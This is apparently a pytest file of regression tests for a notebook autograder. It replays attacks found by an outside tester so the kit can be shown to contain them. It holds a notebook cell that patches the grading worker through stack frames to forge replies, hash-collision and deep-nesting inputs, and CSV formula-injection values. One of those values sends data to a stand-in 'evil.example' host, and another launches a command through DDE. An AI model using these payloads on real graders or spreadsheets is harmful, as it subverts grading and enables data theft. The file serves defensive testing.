"""Attacks an outside tester won against the kit (with only the README and the student notebooks),
kept as regression tests: each must now be contained."""
import csv
import os
import time

import nbformat
import pytest

from autograder import assignments, wire
from autograder.judge.engine import grade_or_report
from autograder.judge.outcome import CheckOutcome, GradingOutcome, check_outcome, grading_outcome
from autograder.paths import ROOT, student_path

# The worker's replies rewritten from a cell: a value nested past the decoder's depth for `rnn`,
# an unhashable dict key, bad tensor data and an unknown tag for the called functions, and a dict
# of 80,000 int keys that all hash alike (quadratic to build) for `hidden`.
FORGED_REPLIES = r'''
import sys
rnn = torch.nn.RNN(input_size=10, hidden_size=20, num_layers=1)
def long_word_lengths(words): return {}
def upper_word_lengths(words): return {}
def rnn_output_shapes(*a, **k): return None
def last_hidden_states(rnn, seqs): return None
_f = sys._getframe()
while _f is not None and _f.f_code.co_name != "main":
    _f = _f.f_back
_W = type(_f.f_locals["worker"])
_oh = _W.handle
def _handle(self, request):
    r = _oh(self, request)
    deep = 0
    for _ in range(40):
        deep = [deep]
    if request.get("op") == "describe" and request.get("name") == "rnn":
        r = {"defined": True, "type": "builtins.list", "callable": False, "is_class": False, "value": deep}
    if request.get("op") == "describe" and request.get("name") == "hidden":
        r = {"defined": True, "type": "builtins.dict", "callable": False, "is_class": False,
             "value": {"$dict": [[k * (2 ** 61 - 1), 0] for k in range(1, 80000)]}}
    if request.get("op") == "call":
        r = {"value": {"long_word_lengths": deep, "upper_word_lengths": {"$dict": [[[1], 2]]},
                       "rnn_output_shapes": {"$tensor": {"dtype": "float32", "shape": [2], "data": "!!"}},
                       "last_hidden_states": {"$nope": 1}}.get(request.get("name"), deep)}
    return r
_W.handle = _handle
'''


@pytest.mark.slow
def test_forged_replies_fail_their_checks_and_never_become_kit_errors_or_hangs(tmp_path):
    notebook = nbformat.read(student_path("rnn-basics"), as_version=4)
    setup = next(i for i, c in enumerate(notebook.cells) if c.cell_type == "code" and "import torch" in c.source)
    notebook.cells.insert(setup + 1, nbformat.v4.new_code_cell(FORGED_REPLIES))
    path = tmp_path / "rnn-basics.ipynb"
    nbformat.write(notebook, str(path))
    started = time.monotonic()
    results = grade_or_report(assignments.load("rnn-basics"), str(path), cell_timeout=30, budget=120)
    seconds = time.monotonic() - started
    assert grading_outcome(results) is GradingOutcome.GRADED
    assert results["score"] == 0
    kit_errors = [t["name"] for t in results["tests"] if check_outcome(t) is CheckOutcome.KIT_ERROR]
    assert not kit_errors, kit_errors
    assert seconds < 120 + 60, seconds  # the colliding dict is refused before it is built


def test_wide_messages_are_refused_before_they_are_parsed():
    """20 MB of nested lists inside every size limit, or a dict of colliding keys: the judge counts
    the lists and objects on the bytes and never builds them."""
    unit = b"[" * 30 + b"]" * 30
    with pytest.raises(ValueError, match="lists and objects"):
        wire.loads_bounded(b'{"value": [' + b",".join([unit] * 2000) + b"]}")
    colliding = '{"$dict": [' + ",".join(f"[{k * (2 ** 61 - 1)}, 0]" for k in range(1, 30000)) + "]}"
    with pytest.raises(ValueError, match="lists and objects"):
        wire.loads_bounded(colliding)
    assert wire.loads_bounded(b'{"value": [[1, 2], [3, 4]]}') == {"value": [[1, 2], [3, 4]]}


def test_gradebooks_never_carry_a_formula(tmp_path):
    from autograder.tools.batch import gradebook
    people = [{"name": '=HYPERLINK("http://evil.example/?x="&B2,"Jane")', "sid": "@SUM(1+1)*cmd|' /C calc'!A0",
               "email": "+cmd@evil.example"}]
    row = {"id": "-1+2", "submitters": people, "questions": {"q1": 2}, "score": 2, "status": "graded",
           "seconds": 1.0}
    gradebook.write_grades([row], {"q1": 2}, tmp_path / "grades.csv")
    gradebook.write_canvas([row], "RNN basics (1)", tmp_path / "canvas.csv")
    for name in ("grades.csv", "canvas.csv"):
        with open(tmp_path / name, newline="") as f:
            cells = [c for r in csv.reader(f) for c in r]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells
        assert any(c.startswith("'=HYPERLINK") for c in cells)


def test_no_document_of_the_repository_prints_the_q8_key():
    from autograder.assignments.rnn_basics.checks import ANSWER_KEY
    key = ", ".join(ANSWER_KEY[n] for n in sorted(ANSWER_KEY))
    for name in ("README.md", "ASSIGNMENTS.md"):
        with open(os.path.join(ROOT, name), encoding="utf-8") as f:
            assert key not in f.read(), name
